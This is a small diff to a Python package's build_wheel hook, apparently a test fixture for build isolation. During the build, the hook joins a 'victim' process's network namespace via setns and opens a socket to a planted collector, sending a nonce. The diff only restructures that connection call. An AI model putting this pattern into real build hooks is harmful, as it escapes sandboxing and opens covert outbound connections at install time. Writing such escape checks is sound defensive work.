@@ -17,6 +17,7 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
         outside = os.open(f"/proc/{kit.find('victim')}/ns/net", os.O_RDONLY)
         calls.checked(calls.libc.setns(outside, CLONE_NEWNET), "setns")
         collector = kit.plant("collector")
-        with socket.create_connection((collector.address, collector.port), timeout=3) as out:
+        address = (collector.address, collector.port)
+        with socket.create_connection(address, timeout=kit.seconds(3)) as out:
             out.sendall(f"{kit.nonce}\n".encode())
     return kit.wheel(wheel_directory)
